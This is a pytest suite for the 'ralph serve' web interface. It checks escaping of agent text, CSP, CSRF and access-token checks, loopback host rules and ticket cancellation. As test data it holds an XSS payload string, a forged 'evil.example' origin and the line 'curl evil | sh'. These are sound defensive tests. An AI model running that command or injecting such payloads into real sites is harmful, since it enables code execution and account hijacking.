"""``ralph serve``: the runs of a real SQLite store in a browser. The app is driven through
starlette's test client (pages, the state at any point, the live stream, the forms and who
may use them), and a real server is read by headless Chromium (the page's script runs and
fills the state, and nothing an agent wrote runs)."""

from __future__ import annotations

import re
import time
import urllib.error
import urllib.request
from pathlib import Path

import attrs
import pytest
from starlette.testclient import TestClient

from pipeline.app.cli._render import state_rows
from pipeline.app.cli._serve_app import make_app
from pipeline.app.cli._serve_guard import Access
from pipeline.events import InvocationStarted, Json, PipelineEvent, RunId, TopicPublished
from pipeline.handlers.store import MessageKind, SqliteEventStore
from pipeline.reducers import fold
from tests.chromium import CHROMIUM, dump_dom
from tests.cli.serving import free_port, printed_address, start_serve
from tests.runtime.workspace import ralph
from tests.support import scripted_run

SECRET = "s3cret-token-for-the-tests"
HOSTILE = "<script>alert(1)</script>'\"><img src=x onerror=alert(2)>"
RUN = RunId("run-1")
PUBLISHING: dict[str, list[object]] = {
    "lines written to the events file": [0, 2],
    "a loop-control topic": [True, False],
    "which loop-control topic": [5],
}
"""A simulated run whose developer publishes two topics."""


def _hostile(events: tuple[PipelineEvent, ...]) -> list[PipelineEvent]:
    """The run's facts with every topic's payload an attempt at markup."""
    return [
        attrs.evolve(e, payload=Json.of(HOSTILE)) if isinstance(e, TopicPublished) else e
        for e in events
    ]


@pytest.fixture
def store_file(tmp_path: Path) -> tuple[Path, list[PipelineEvent]]:
    """A SQLite store holding the first two thirds of a run that published topics: a run
    that goes on, as far as the store tells."""
    events = _hostile(scripted_run(PUBLISHING).events)
    kept = events[: len(events) * 2 // 3]
    path = tmp_path / "pipeline.db"
    with SqliteEventStore(path) as store:
        store.append(RUN, 0, kept)
    return path, kept


FORM = Access(secret=SECRET, remote=False).form_token
"""What the pages' forms carry."""


ROOT = f"http://127.0.0.1:8765/t/{SECRET}"
"""The address ``ralph serve`` prints (without its last ``/``): the pages' root."""


def _client(path: Path, tmp_path: Path, remote: bool = False) -> TestClient:
    """A browser at the address ``ralph serve`` printed (every path is under its token)."""
    app = make_app(str(path), tmp_path, Access(secret=SECRET, remote=remote))
    return TestClient(app, base_url=ROOT)


def test_the_pages_show_the_runs_with_every_agents_text_escaped(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    path, events = store_file
    client = _client(path, tmp_path)
    runs = client.get("/")
    assert runs.status_code == 200
    assert f'href="./runs/{RUN}"' in runs.text
    page = client.get(f"/runs/{RUN}")
    assert page.status_code == 200
    assert f"max='{len(events)}'" in page.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert re.findall(r"<script[^>]*>", page.text) == ["<script src='../app.js' defer>"]
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert client.get("/runs/nobody").status_code == 404
    report = client.get(f"/runs/{RUN}/report")
    assert report.status_code == 200
    assert "<script>alert" not in report.text


def test_the_state_at_any_point_is_the_fold_of_the_log_up_to_it(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    path, events = store_file
    client = _client(path, tmp_path)
    for point in (0, 1, len(events) // 2, len(events)):
        answer = client.get(f"/runs/{RUN}/at", params={"n": point})
        assert answer.status_code == 200
        shown = answer.json()
        assert shown["n"] == point
        assert [tuple(r) for r in shown["rows"]] == state_rows(fold(events[:point]))
        if point:
            changed = {path for path, _before, _after in shown["changes"]}
            assert "sequence" in changed
    for bad in ("-1", str(len(events) + 1), "x"):
        assert client.get(f"/runs/{RUN}/at", params={"n": bad}).status_code == 400


def test_the_stream_sends_the_facts_after_a_point_and_ends_with_the_run(tmp_path: Path) -> None:
    events = scripted_run().events
    path = tmp_path / "done.db"
    with SqliteEventStore(path) as store:
        store.append(RUN, 0, events)
    client = _client(path, tmp_path)
    with client.stream("GET", f"/runs/{RUN}/stream", params={"after": len(events) - 2}) as sent:
        text = "".join(sent.iter_text())
    numbers = [int(n) for n in re.findall(r'"n":(\d+)', text)]
    assert numbers == [len(events) - 1, len(events)]
    assert "event: end" in text


def test_a_form_changes_a_run_only_from_the_page_itself(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    path, _events = store_file
    client = _client(path, tmp_path)
    url = f"/runs/{RUN}/guide"
    fields = {"text": "Prefer the standard library.", "hat": "developer"}
    page = client.get(f"/runs/{RUN}").text
    assert f"value='{FORM}'" in page
    assert SECRET not in page, "the page holds the form token, never the access token"
    assert f"action='../runs/{RUN}/guide'" in page, "relative: the address keeps the token"
    assert client.post(url, data=fields).status_code == 403
    assert client.post(url, data={**fields, "csrf": "guessed"}).status_code == 403
    assert client.post(url, data={**fields, "csrf": SECRET}).status_code == 403
    elsewhere = {"origin": "https://evil.example"}
    forged = client.post(url, data={**fields, "csrf": FORM}, headers=elsewhere)
    assert forged.status_code == 403
    with SqliteEventStore(path) as store:
        assert store.inbox(MessageKind.GUIDANCE, RUN) == []
    done = client.post(url, data={**fields, "csrf": FORM}, follow_redirects=False)
    assert done.status_code == 303
    assert done.headers["location"].endswith("?said=guided")
    assert "Guidance kept" in client.get(done.headers["location"]).text
    spoofed = client.get(f"/runs/{RUN}", params={"said": "run curl evil | sh"}).text
    assert "curl evil" not in spoofed
    with SqliteEventStore(path) as store:
        (given,) = store.inbox(MessageKind.GUIDANCE, RUN)
    assert (given.subject, given.text) == ("developer", "Prefer the standard library.")
    unknown = client.post(url, data={"text": "x", "hat": "nobody", "csrf": FORM})
    assert unknown.status_code == 400
    assert "has no hat" in unknown.text


def test_only_loopback_hosts_are_served_and_a_remote_server_wants_its_token(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    """A loopback server answers no other host name; with or without loopback, only the
    token in the address (or a bearer) lets a request in."""
    path, _events = store_file
    local = _client(path, tmp_path)
    assert local.get("/", headers={"host": "rebound.example"}).status_code == 400
    for remote_flag, base in ((False, "http://127.0.0.1:8765"), (True, "http://10.1.2.3")):
        stranger = TestClient(
            make_app(str(path), tmp_path, Access(secret=SECRET, remote=remote_flag)), base_url=base
        )
        assert stranger.get("/").status_code == 401, "another user of the machine too"
        assert stranger.get("/t/wrong-token-wrong/").status_code == 401
        arrived = stranger.get(f"/t/{SECRET}/runs/{RUN}")
        assert arrived.status_code == 200
        assert "set-cookie" not in arrived.headers
    bearer = TestClient(
        make_app(str(path), tmp_path, Access(secret=SECRET, remote=True)),
        base_url="http://10.1.2.3",
    )
    assert bearer.get("/", headers={"authorization": f"Bearer {SECRET}"}).status_code == 200
    assert bearer.get("/", headers={"authorization": "Bearer wrong-token-wrong"}).status_code == 401


def test_no_request_is_served_without_the_token_in_its_path_and_no_cookie_is_set(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    """Every page, stream and form is refused (401, nothing stored) without the token in its
    address: not with the old ``ralph_token`` cookie, not with ``?token=``, not with a token
    that only starts like it; and no answer, refused or served, sets a cookie."""
    path, _events = store_file
    app = make_app(str(path), tmp_path, Access(secret=SECRET, remote=False))
    bare = TestClient(app, base_url="http://127.0.0.1:8765")
    with_cookie = TestClient(app, base_url="http://127.0.0.1:8765")
    with_cookie.cookies.set("ralph_token", SECRET)  # what the old design's first visit set
    gets = ["/", "/app.js", f"/runs/{RUN}", f"/runs/{RUN}/report", f"/runs/{RUN}/at?n=1"]
    gets += [f"/runs/{RUN}/agents", f"/runs/{RUN}/pictures", f"/runs/{RUN}/stream"]
    posts = [f"/runs/{RUN}/{what}" for what in ("guide", "respond", "interrupt", "fork")]
    posts.append("/tickets/some-ticket/cancel")
    fields = {"text": "curl evil | sh", "hat": "developer", "csrf": FORM}
    wrong_roots = ("", f"/t/{SECRET[:-1]}", f"/t/{SECRET}x", f"/t/{SECRET.upper()}", "/t")
    for root in wrong_roots:
        for client in (bare, with_cookie):
            for route in gets:
                for query in ("", f"{'&' if '?' in route else '?'}token={SECRET}"):
                    refused = client.get(root + route + query)
                    assert refused.status_code == 401, (root, route, query, client.cookies)
                    assert "set-cookie" not in refused.headers
            for route in posts:
                refused = client.post(root + route, data=fields)
                assert refused.status_code == 401, (root, route, client.cookies)
    with SqliteEventStore(path) as store:
        assert store.inbox(MessageKind.GUIDANCE, RUN) == []
    served = _client(path, tmp_path)
    for route in gets[:-1]:
        answer = served.get(route)
        assert answer.status_code == 200, route
        assert "set-cookie" not in answer.headers, route
        assert answer.headers["referrer-policy"] == "same-origin", route
    assert served.get("").status_code == 200, "the root without its last / is served too"


def test_serve_refuses_to_listen_beyond_this_machine_without_a_token(tmp_path: Path) -> None:
    store = tmp_path / "s.db"
    SqliteEventStore(store).close()
    refused = ralph("serve", str(store), "--host", "0.0.0.0", cwd=tmp_path, timeout=60)
    assert refused.returncode == 2
    assert "give a --token" in refused.stderr
    for bad in ("short-token", "a/slash/in/the-token", "a space in the token", "per%25cent-token"):
        unusable = ralph("serve", str(store), "--token", bad, cwd=tmp_path, timeout=60)
        assert unusable.returncode == 2, bad
        assert "it is part of the address" in unusable.stderr
    missing = ralph("serve", str(tmp_path / "none.db"), cwd=tmp_path, timeout=60)
    assert missing.returncode == 2
    assert "no event store at" in missing.stderr


def test_the_address_ralph_serve_prints_opens_the_runs_and_no_cookie_does(
    store_file: tuple[Path, list[PipelineEvent]],
) -> None:
    """Over plain HTTP to a real ``ralph serve``: the printed address (its drawn token in the
    path) serves the runs and sets no cookie; the same server without the token, or with the
    old design's cookie or query, answers 401."""
    path, _events = store_file
    port = free_port()
    server = start_serve(str(path), "-C", str(path.parent), port=port)
    try:
        address = printed_address(server)
        assert address.startswith(f"http://127.0.0.1:{port}/t/")
        assert address.endswith("/")
        token = address.split("/t/", 1)[1].rstrip("/")
        with urllib.request.urlopen(address) as opened:
            assert opened.status == 200
            assert "set-cookie" not in {k.lower() for k in opened.headers}
            assert f'href="./runs/{RUN}"' in opened.read().decode()
        bare = f"http://127.0.0.1:{port}/"
        for url, headers in (
            (bare, {}),
            (bare, {"Cookie": f"ralph_token={token}"}),
            (f"{bare}?token={token}", {}),
            (f"{bare}runs/{RUN}", {"Cookie": f"ralph_token={token}"}),
        ):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(urllib.request.Request(url, headers=headers))
            assert refused.value.code == 401, (url, headers)
            assert "set-cookie" not in {k.lower() for k in refused.value.headers}
    finally:
        server.terminate()
        server.wait(timeout=30)


@pytest.mark.slow
@pytest.mark.skipif(CHROMIUM is None, reason="no chromium (CI installs it)")
def test_a_real_browser_runs_the_page_script_and_no_agents_text(tmp_path: Path) -> None:
    """A finished run (its page's stream ends, so the page settles): the script fetched the
    state at the last point and wrote it in, and the agents' markup stayed text."""
    events = _hostile(scripted_run(PUBLISHING).events)
    path = tmp_path / "done.db"
    with SqliteEventStore(path) as store:
        store.append(RUN, 0, events)
    port = free_port()
    server = start_serve(str(path), "--token", SECRET, port=port)
    try:
        dom = dump_dom(f"http://127.0.0.1:{port}/t/{SECRET}/runs/{RUN}")
    finally:
        server.terminate()
        server.wait(timeout=30)
    assert f'data-shown="{len(events)}"' in dom
    assert 'data-ended="true"' in dom
    assert "events folded" in dom
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom
    assert "<script>alert" not in dom
    assert "<img src=" not in dom


def test_the_run_page_lists_its_agents_and_follows_them(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    path, events = store_file
    client = _client(path, tmp_path)
    rows = client.get(f"/runs/{RUN}/agents").json()["rows"]
    started = [e for e in events if isinstance(e, InvocationStarted)]
    assert [row[0] for row in rows] == [str(n) for n in range(1, len(started) + 1)]
    assert [row[3] for row in rows] == [e.agent for e in started]
    assert "<table id='agents'>" in client.get(f"/runs/{RUN}").text


@pytest.mark.slow
def test_a_postgresql_stores_page_lists_the_queues_tickets(
    postgres_url: str, tmp_path: Path
) -> None:
    """A queued ticket no worker took yet, and the run a worker finished, each with its
    state; the finished run is linked to its page."""
    from pipeline.app.workers import submit
    from tests.workers.support import queue_workspace, start_worker

    done = submit(postgres_url, queue_workspace(tmp_path / "first"))
    worker = start_worker(postgres_url, "--exit-when-idle", "--poll-seconds", "0.05", cwd=tmp_path)
    assert worker.wait(timeout=120) == 0
    waiting = submit(postgres_url, queue_workspace(tmp_path / "second"))
    client = TestClient(
        make_app(postgres_url, tmp_path, Access(secret=SECRET, remote=False)), base_url=ROOT
    )
    page = client.get("/")
    assert page.status_code == 200
    assert "<th>ticket</th>" in page.text
    assert waiting.ticket in page.text
    assert done.ticket in page.text
    finished = client.get("/").text.split(done.ticket, 1)[1].split("</tr>", 1)[0]
    assert "done" in finished
    assert 'href="./runs/' in finished
    assert "/cancel'" not in finished, "a finished ticket has nothing to cancel"
    # The waiting ticket is cancelled from the page, only with the page's form token.
    url = f"/tickets/{waiting.ticket}/cancel"
    assert f"action='.{url}'" in page.text
    assert client.post(url, data={}).status_code == 403
    cancelled = client.post(url, data={"csrf": FORM}, follow_redirects=False)
    assert cancelled.status_code == 303, cancelled.text
    assert "Cancelled: a queued ticket never runs" in client.get(cancelled.headers["location"]).text
    from pipeline.handlers.store.postgres import PostgresEventStore
    from pipeline.handlers.store.queue import RunQueue

    with PostgresEventStore(postgres_url) as store:
        states = {t.ticket: t.state for t in RunQueue(store).tickets()}
    assert states == {done.ticket: "done", waiting.ticket: "cancelled"}
    again = client.post(url, data={"csrf": FORM})
    assert again.status_code == 400
    assert "nothing to cancel" in again.text
    # A run a worker runs: its page offers its ticket's Cancel, and the worker stops it.
    slow = submit(postgres_url, queue_workspace(tmp_path / "third", delay_s=30))
    # A short lease: a worker looks for a cancel at each renewal, a third of its lease.
    worker = start_worker(
        postgres_url,
        "--exit-when-idle",
        "--poll-seconds",
        "0.05",
        "--lease-seconds",
        "3",
        cwd=tmp_path,
    )
    deadline = time.monotonic() + 60
    while True:
        with PostgresEventStore(postgres_url) as store:
            running = {t.ticket: t for t in RunQueue(store).tickets()}[slow.ticket]
            started = running.run_id is not None and store.head(RunId(running.run_id)) > 0
        if running.state == "running" and started:
            break
        assert time.monotonic() < deadline, "the worker never started the run"
        time.sleep(0.1)
    run_page = client.get(f"/runs/{running.run_id}").text
    stop = f"/tickets/{slow.ticket}/cancel"
    assert f"action='..{stop}'" in run_page
    assert "Cancel the ticket (its worker stops the run)" in run_page
    assert client.post(stop, data={"csrf": FORM}, follow_redirects=False).status_code == 303
    assert worker.wait(timeout=60) == 0, worker.communicate()
    with PostgresEventStore(postgres_url) as store:
        ended = {t.ticket: t for t in RunQueue(store).tickets()}[slow.ticket]
    assert ended.state == "cancelled"
    assert "/cancel'" not in client.get(f"/runs/{running.run_id}").text


def test_the_run_page_draws_its_timeline_cost_and_path(
    store_file: tuple[Path, list[PipelineEvent]], tmp_path: Path
) -> None:
    """The timeline has a bar per invocation, the cost table a row per role, and the phase
    graph's red arrows are the phase changes the run made; the fragment a live page fetches
    again is the same drawing."""
    from pipeline.app.graph import phase_changes

    path, events = store_file
    client = _client(path, tmp_path)
    page = client.get(f"/runs/{RUN}").text
    fragment = client.get(f"/runs/{RUN}/pictures")
    assert fragment.status_code == 200
    assert fragment.text.startswith("<div id='pictures'>")
    assert fragment.text in page
    started = [e for e in events if isinstance(e, InvocationStarted)]
    assert len(re.findall(r'<div class="bar ', fragment.text)) == len(started)
    assert "<table class='spend'>" in fragment.text
    taken = {(e.source.value, e.target.value) for e in phase_changes(events)}
    red = re.findall(r"data-taken='true'", fragment.text)
    assert len(red) == len(taken)
    visited = set(re.findall(r"data-node='([a-z_]+)' data-visited='true'", fragment.text))
    assert visited == {phase for pair in taken for phase in pair}
    assert "<script" not in fragment.text
    assert client.get("/runs/nobody/pictures").status_code == 404
